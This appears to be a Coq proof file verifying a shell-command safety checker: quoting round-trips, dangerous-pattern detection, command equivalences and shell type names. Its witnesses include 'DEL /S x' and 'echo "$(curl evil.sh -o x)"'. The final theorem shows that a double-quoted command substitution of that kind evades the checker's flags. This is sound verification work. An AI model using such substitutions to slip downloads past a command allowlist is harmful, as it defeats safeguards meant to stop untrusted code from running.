(* ===== verification/ShellFacts.v ===== *)
(** * Properties of the shell vocabulary and of quoting

    Quoting words for the POSIX parser and reading them back; the
    dangerous-pattern tables; command equivalents; shell type names. *)

From S2P Require Import Prelude CString ShellBase ShellLex ShellPosix ShellCmd ShellPs ShellParser.
Local Open Scope bool_scope.

(** ** Single-quoted words *)

Definition quote_word (w : cstr) : cstr := SQ :: w ++ [SQ].

Fixpoint quote_words (ws : list cstr) : cstr :=
  match ws with
  | [] => []
  | [w] => quote_word w
  | w :: ws' => quote_word w ++ " "%char :: quote_words ws'
  end.

(** Words that single quotes protect from the POSIX parser: ASCII, without a
    single quote, and not ending in a dollar sign, which the parser would take
    for the start of an ANSI-C string. *)
Definition quotable (w : cstr) : Prop :=
  Forall (fun c => non_ascii c = false /\ c <> SQ) w /\ last w <> Some "$"%char.

Lemma quotable_inside w rest b ts ex :
  quotable w ->
  lex_pure posix_step (mkLex b true false true ex false false false false) ts (w ++ SQ :: rest) =
  lex_pure posix_step (mkLex (b ++ w) true false true ex false false false false) ts (SQ :: rest).
Proof.
  revert b. induction w as [|c w IH]; intros b [Hf Hl]; [by rewrite app_nil_r|].
  inversion Hf as [|? ? [Hna Hsq] Hf']; subst.
  assert (Ascii.eqb c "$" && Ascii.eqb (peek (w ++ SQ :: rest)) SQ = false) as Hd.
  { destruct w as [|d w]; simpl in *.
    - apply andb_false_iff. left. apply ascii_eqb_false. naive_solver.
    - apply andb_false_iff. right. apply ascii_eqb_false.
      by inversion Hf' as [|? ? [_ ?]]. }
  assert (quotable w) as Hw by (split; [done|]; destruct w; simpl in *; naive_solver).
  replace (b ++ c :: w) with ((b ++ [c]) ++ w) by by rewrite <- app_assoc.
  rewrite <- IH by done. remember (w ++ SQ :: rest) as q eqn:Hq.
  rewrite <- app_comm_cons, <- Hq. simpl lex_pure at 1.
  unfold posix_step at 1. rewrite Hd, Hna.
  apply ascii_eqb_false in Hsq. rewrite Hsq. simpl. rewrite !andb_false_r. simpl.
  by rewrite app_nil_r.
Qed.

Lemma lex_pure_quote_word w rest ts ex :
  quotable w ->
  lex_pure posix_step (mkLex [] false false false ex false false false false) ts
    (quote_word w ++ rest) =
  lex_pure posix_step (mkLex w false false true ex false false false false) ts rest.
Proof.
  intros Hw. unfold quote_word. rewrite <- app_comm_cons, <- app_assoc. simpl app at 2.
  remember (w ++ SQ :: rest) as q eqn:Hq. simpl. rewrite app_nil_r. subst q.
  change (toggle_single _) with (mkLex [] true false true ex false false false false).
  rewrite (quotable_inside w rest []) by done. simpl. by rewrite app_nil_r.
Qed.

Lemma lex_pure_quote_words ws ts ex :
  Forall quotable ws ->
  exists s ts', lex_pure posix_step (mkLex [] false false false ex false false false false) ts
            (quote_words ws) = (s, ts') /\
    ts' ++ opt_list (flush_word s).2 = ts ++ ws /\ unsafe s = false /\
    in_single_quote s = false /\ in_double_quote s = false.
Proof.
  revert ts. induction ws as [|w ws IH]; intros ts Hws.
  - do 2 eexists. split; [done|]. simpl. by rewrite !app_nil_r.
  - inversion Hws as [|? ? Hw Hws']; subst. destruct ws as [|w' ws].
    + change (quote_words [w]) with (quote_word w).
      rewrite <- (app_nil_r (quote_word w)), lex_pure_quote_word by done.
      do 2 eexists. split; [done|]. simpl. by destruct w.
    + remember (w' :: ws) as ws0 eqn:H0.
      assert (quote_words (w :: ws0) = quote_word w ++ " "%char :: quote_words ws0) as ->
        by by subst.
      rewrite lex_pure_quote_word by done.
      destruct (IH (ts ++ [w]) Hws') as (s & ts' & Heq & Hts & Hu & Hq).
      exists s, ts'. split; [|by rewrite Hts, <- app_assoc].
      rewrite <- Heq. by destruct w.
Qed.

(** Words rendered in single quotes and separated by blanks are read back
    unchanged by the POSIX parser, empty words included, and no flag is raised
    except by a dangerous pattern: quoted operators are data. *)
Theorem quoted_words_roundtrip ws :
  Forall quotable ws -> (Z.of_nat (length (quote_words ws)) <= MAX_COMMAND_LENGTH)%Z ->
  exists p, parse_shell_command_for_type (quote_words ws) SHELL_TYPE_POSIX = Some p /\
    tokens p = ws /\
    shell_command_is_safe_for_matching p = negb (shell_command_is_dangerous (quote_words ws)).
Proof.
  intros Hws Hlen. unfold parse_shell_command_for_type, parse_posix_shell.
  destruct (Z.ltb_spec MAX_COMMAND_LENGTH (Z.of_nat (length (quote_words ws)))); [lia|].
  rewrite lex_parse_pure by exact (accepted_length _ Hlen). eexists. split; [done|].
  unfold pure_parse, pure_finish, lex_init.
  destruct (lex_pure_quote_words ws [] true Hws) as (s & ts & -> & Hts & Hu & Hsq & Hdq).
  split; [exact Hts|]. unfold shell_command_is_safe_for_matching. simpl.
  rewrite Hsq, Hdq, orb_false_r. unfold unsafe in Hu. by rewrite Hu.
Qed.

Lemma quoted_words_roundtrip_witness :
  exists p, parse_shell_command_for_type (quote_words [cs "echo"; cs "a;b|c"; cs ""]) SHELL_TYPE_POSIX
              = Some p /\ tokens p = [cs "echo"; cs "a;b|c"; cs ""].
Proof.
  destruct (quoted_words_roundtrip [cs "echo"; cs "a;b|c"; cs ""]) as (p & Hp & Ht & _).
  - repeat constructor; try discriminate.
  - vm_compute. discriminate.
  - exists p. split; [exact Hp|exact Ht].
Defined.

(** ** Dangerous patterns *)

Lemma any_in_context a s b table : any_in s table = true -> any_in (a ++ s ++ b) table = true.
Proof. unfold any_in. eauto with scaffold. Qed.

Lemma lower_app a b : lower (a ++ b) = lower a ++ lower b.
Proof. apply map_app. Qed.

(** A command that is dangerous for some shell: the verdict every parser
    stores in the parsed command. *)
Definition dangerous_for (type : ShellType) (command : cstr) : bool :=
  match type with
  | SHELL_TYPE_CMD => cmd_dangerous command
  | SHELL_TYPE_POWERSHELL => ps_dangerous command
  | SHELL_TYPE_POSIX | SHELL_TYPE_UNKNOWN => shell_command_is_dangerous command
  end.

Lemma dangerous_body command :
  command <> [] ->
  shell_command_is_dangerous command =
  any_in command DANGEROUS_PATTERNS
  || (any_in command RCE_DOWNLOAD_CMDS && any_in command RCE_SHELL_CMDS)
  || any_in command DISK_WRITE_PATTERNS
  || (contains command (cs "dd ") && contains command (cs "of=/dev/")).
Proof. by destruct command. Qed.

Lemma shell_dangerous_context a s b :
  shell_command_is_dangerous s = true -> shell_command_is_dangerous (a ++ s ++ b) = true.
Proof.
  intros H. assert (s <> []) as Hs by (by intros ->).
  assert (a ++ s ++ b <> []) by (destruct a, s; done).
  rewrite dangerous_body in H |- * by done.
  rewrite !orb_true_iff, !andb_true_iff in *.
  destruct H as [[[H|[H1 H2]]|H]|[H1 H2]].
  - do 3 left. by apply any_in_context.
  - do 2 left. right. split; by apply any_in_context.
  - left. right. by apply any_in_context.
  - right. split; by apply contains_context.
Qed.

Lemma lower_table_context (table : list cstr) a s b :
  any_in (lower s) table = true -> any_in (lower (a ++ s ++ b)) table = true.
Proof. rewrite !lower_app. apply any_in_context. Qed.

(** For every shell, text added before or after a dangerous command never
    hides the danger, and a dangerous command is never matched by an allowlist
    prefix, whatever the prefix. *)
Theorem danger_persists type a s b p prefix :
  dangerous_for type s = true ->
  dangerous_for type (a ++ s ++ b) = true /\
  (parse_shell_command_for_type (a ++ s ++ b) type = Some p ->
   shell_command_matches_prefix p prefix = false).
Proof.
  intros Hd.
  assert (dangerous_for type (a ++ s ++ b) = true) as Hd'.
  { destruct type; simpl in *; [by apply shell_dangerous_context| | |by apply shell_dangerous_context];
      unfold cmd_dangerous, ps_dangerous in *; apply orb_true_iff in Hd; apply orb_true_iff;
      (destruct Hd as [Hd|Hd]; [left; by apply shell_dangerous_context|right]);
      destruct s as [|c s]; try done;
      pose proof (lower_table_context _ a (c :: s) b Hd) as H;
      by destruct (a ++ (c :: s) ++ b) eqn:E; [destruct a|]. }
  split; [done|]. intros Hp. apply not_true_iff_false. intros (_ & Hm & _)%matches_prefix_true.
  rewrite (parse_for_type_safe _ _ _ Hp) in Hm. revert Hd'.
  destruct type; simpl in *; unfold posix_matchable, cmd_matchable, ps_matchable in Hm;
    apply andb_true_iff in Hm as [_ Hm]; apply negb_true_iff in Hm; congruence.
Qed.

Lemma danger_persists_witness :
  dangerous_for SHELL_TYPE_CMD (cs "DEL /S x") = true /\
  dangerous_for SHELL_TYPE_CMD (cs "echo " ++ cs "DEL /S x" ++ cs " y") = true.
Proof.
  split; [vm_compute; reflexivity|].
  refine (proj1 (danger_persists SHELL_TYPE_CMD (cs "echo ") (cs "DEL /S x") (cs " y")
                   sample_parsed [] _)).
  vm_compute. reflexivity.
Defined.

(** ** Command equivalents *)

Lemma in_group_lower c c' g : lower c = lower c' -> in_group c g = in_group c' g.
Proof.
  intros H. unfold in_group. induction g as [|x g IH]; simpl; [done|].
  unfold strcaseeq at 1 3. by rewrite H, IH.
Qed.

(** No command belongs to two groups, whatever its case. *)
Lemma groups_disjoint :
  forallb (fun i => forallb (fun j =>
    (i =? j)%nat || forallb (fun c => negb (in_group c (nth j equivalents []))) (nth i equivalents []))
    (seq 0 8)) (seq 0 8) = true.
Proof. vm_compute. reflexivity. Qed.

Lemma same_group i j c :
  (i < 8)%nat -> (j < 8)%nat -> in_group c (nth i equivalents []) = true ->
  in_group c (nth j equivalents []) = true -> i = j.
Proof.
  intros Hi Hj Hci Hcj. pose proof groups_disjoint as H.
  rewrite forallb_forall in H. specialize (H i). rewrite forallb_forall in H.
  assert (List.In i (seq 0 8)) as Hi' by (apply in_seq; lia).
  assert (List.In j (seq 0 8)) as Hj' by (apply in_seq; lia).
  specialize (H Hi' j Hj'). apply orb_true_iff in H as [H|H]; [by apply Nat.eqb_eq|].
  exfalso. unfold in_group in Hci. apply existsb_exists in Hci as (x & Hx & Hcx).
  rewrite forallb_forall in H. specialize (H x Hx). apply strcaseeq_true in Hcx.
  rewrite (in_group_lower c x) in Hcj by done. by rewrite Hcj in H.
Qed.

Lemma equivalents_exists f :
  existsb f equivalents = true <-> exists i, (i < 8)%nat /\ f (nth i equivalents []) = true.
Proof.
  rewrite existsb_exists. split.
  - intros (g & Hg & Hf). apply (In_nth _ _ []) in Hg as (i & Hi & <-). eauto.
  - intros (i & Hi & Hf). eexists. split; [|exact Hf]. by apply nth_In.
Qed.

Lemma commands_equivalent_iff a b :
  commands_are_equivalent a b = true <->
  a = b \/ exists i, (i < 8)%nat /\ in_group a (nth i equivalents []) = true /\
                     in_group b (nth i equivalents []) = true.
Proof.
  unfold commands_are_equivalent. rewrite orb_true_iff, streq_true, equivalents_exists.
  setoid_rewrite andb_true_iff. done.
Qed.

(** The cross-platform command table defines an equivalence relation:
    reflexive, symmetric and, because no name is in two groups, transitive. *)
Theorem commands_equivalence :
  Equivalence (fun a b => commands_are_equivalent a b = true).
Proof.
  split.
  - intros a. apply commands_equivalent_iff. by left.
  - intros a b. rewrite !commands_equivalent_iff. naive_solver.
  - intros a b c. rewrite !commands_equivalent_iff.
    intros [->|(i & Hi & Ha & Hb)] [->|(j & Hj & Hb' & Hc)];
      [by left|right; by exists j|right; by exists i|].
    assert (i = j) as -> by by apply (same_group i j b). right. by exists j.
Qed.

(** ** Shell type names *)

(** A shell type is read back from its own name in any case; the names
    that denote no type leave the output untouched. *)
Theorem shell_type_name_roundtrip t name :
  lower name = lower (shell_type_name t) ->
  parse_shell_type name = if decide (t = SHELL_TYPE_UNKNOWN) then None else Some t.
Proof.
  intros H. unfold parse_shell_type, strcaseeq. rewrite H. destruct t; vm_compute; reflexivity.
Qed.

Lemma shell_type_name_roundtrip_witness :
  parse_shell_type (cs "PowerShell") = Some SHELL_TYPE_POWERSHELL.
Proof. apply (shell_type_name_roundtrip SHELL_TYPE_POWERSHELL). vm_compute. reflexivity. Defined.

(** ** What double quotes hide *)

(** Text the POSIX tokenizer copies verbatim inside double quotes. *)
Definition dq_plain (c : ascii) : Prop :=
  non_ascii c = false /\ c <> DQ /\ c <> SQ /\ c <> "\"%char.

Lemma dq_plain_clean w rest :
  Forall dq_plain w -> peek rest <> SQ ->
  clean posix_qstep posix_refused (false, true) (w ++ rest) =
    clean posix_qstep posix_refused (false, true) rest /\
  context_of posix_qstep (false, true) (w ++ rest) = context_of posix_qstep (false, true) rest.
Proof.
  intros Hw Hr. induction Hw as [|c w (Hna & Hdq & Hsq & Hbs) Hw IH]; [done|].
  assert (peek (w ++ rest) <> SQ) as Hp.
  { destruct Hw as [|d w (_ & _ & Hd & _) _]; [done|exact Hd]. }
  unfold context_of in *. rewrite <- app_comm_cons. cbn [clean context_before]. rewrite app_nil_r.
  assert (posix_refused (false, true) c (peek (w ++ rest)) = false) as ->.
  { unfold posix_refused. rewrite Hna, (proj2 (ascii_eqb_false _ _) Hp), (proj2 (ascii_eqb_false _ _) Hbs).
    by rewrite andb_false_r. }
  assert (posix_qstep (false, true) c (peek (w ++ rest)) = (false, true)) as ->.
  { unfold posix_qstep. rewrite (proj2 (ascii_eqb_false _ _) Hsq), (proj2 (ascii_eqb_false _ _) Hdq). done. }
  exact IH.
Qed.

(** echo with a double-quoted command substitution *)
Definition echo_substitution (inner : cstr) : cstr :=
  cs "echo " ++ DQ :: (cs "$(" ++ inner ++ cs ")") ++ [DQ].

(** A command substitution inside double quotes, which a POSIX shell runs,
    raises no flag: whatever plain text it holds, the command stays matchable
    unless its text contains a dangerous pattern. *)
Theorem quoted_substitution_unseen inner :
  Forall dq_plain inner ->
  posix_matchable (echo_substitution inner) =
  negb (shell_command_is_dangerous (echo_substitution inner)).
Proof.
  intros Hin. unfold posix_matchable.
  set (body := cs "$(" ++ inner ++ cs ")").
  assert (Forall dq_plain body) as Hb.
  { unfold body. rewrite !Forall_app. split_and!; [|done|]; repeat constructor; done. }
  destruct (dq_plain_clean body [DQ] Hb) as [Hcl Hctx]; [done|].
  assert (clean posix_qstep posix_refused (false, false) (echo_substitution inner) =
          clean posix_qstep posix_refused (false, true) (body ++ [DQ])) as ->.
  { unfold echo_substitution, body. reflexivity. }
  assert (context_of posix_qstep (false, false) (echo_substitution inner) =
          context_of posix_qstep (false, true) (body ++ [DQ])) as ->.
  { unfold echo_substitution, body. reflexivity. }
  rewrite Hcl, Hctx. reflexivity.
Qed.

Lemma quoted_substitution_unseen_witness :
  posix_matchable (echo_substitution (cs "curl evil.sh -o x")) = true.
Proof.
  rewrite quoted_substitution_unseen.
  - vm_compute. reflexivity.
  - repeat constructor; discriminate.
Defined.
